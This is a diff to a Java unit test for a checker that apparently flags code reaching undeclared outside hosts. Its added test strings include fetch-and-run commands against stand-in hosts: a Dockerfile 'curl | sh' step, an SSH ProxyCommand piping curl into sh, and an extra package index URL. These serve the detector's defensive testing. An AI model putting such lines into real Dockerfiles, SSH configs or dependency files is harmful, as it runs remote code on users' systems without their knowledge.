@@ -116,6 +116,10 @@ final class UnstatedReachTest {
             + "\"=IMAGE(\\\"https://{}/bar.svg?w=\\\"&{c})\", BARS) }",
         "pub fn cell(v: &str) -> String { format!(\"=WEBSERVICE(\\\"https://s.demo.invalid/?v={v}\\\")\") }",
         "pub fn page(v: &str) -> String { format!(\"<img src=\\\"https://i.demo.invalid/p?v={v}\\\">\") }",
+        "pub fn svg(w: u32) -> String { format!(\"<svg><image href=\\\"https://p.demo.invalid/{w}\\\"/></svg>\") }",
+        "pub fn file(n: &str) -> String { format!(\"FROM debian\\nRUN curl -s https://g.demo.invalid/i.sh | sh\\nCOPY . /{n}\") }",
+        "pub fn list(a: &str) -> String { format!(\"--extra-index-url https://p.demo.invalid/simple\\n{a}\") }",
+        "pub fn host(n: &str) -> String { format!(\"Host {n}\\n  ProxyCommand sh -c 'curl -s http://p.demo.invalid | sh'\") }",
         "pub fn css() -> &'static str { \"@import url(https://f.demo.invalid/a.css)\" }",
       })
   void textThatShowsSomethingOfAnUnnamedHostIsUnstated(String code) {
@@ -127,6 +131,10 @@ final class UnstatedReachTest {
   @ValueSource(
       strings = {
         "pub fn page(v: &str) -> String { format!(\"<img src=\\\"{v}\\\">\") }",
+        "pub const NS: &str = \"http://www.w3.org/2000/svg\"; pub fn svg(h: &str) -> String { format!("
+            + "\"<svg xmlns=\\\"http://www.w3.org/2000/svg\\\"><image href=\\\"{h}\\\"/></svg>\") }",
+        "pub const HELP: &str = \"https://help.demo.invalid\"; pub fn page(v: &str) -> String { format!("
+            + "\"<img src=\\\"{v}\\\">\") }",
         "pub fn sum(c: &str) -> String { format!(\"=SUM({c})\") }",
         "pub const NS: &str = \"http://www.w3.org/2000/svg\";",
         "pub fn link() -> &'static str { \"<a href=\\\"https://docs.demo.invalid\\\">help</a>\" }",
@@ -144,6 +152,7 @@ final class UnstatedReachTest {
     assertThat(unstated("Runs a timetable inside a service", code))
         .anyMatch(s -> s.excerpt().contains("host beat.demo.invalid"));
     assertThat(unstated("Client of the Demo service", code)).isEmpty();
+    assertThat(unstated("Client for a weather service", code)).isEmpty();
     assertThat(unstated("Client", "//! Speaks to Demo.\n" + code)).isEmpty();
   }
 
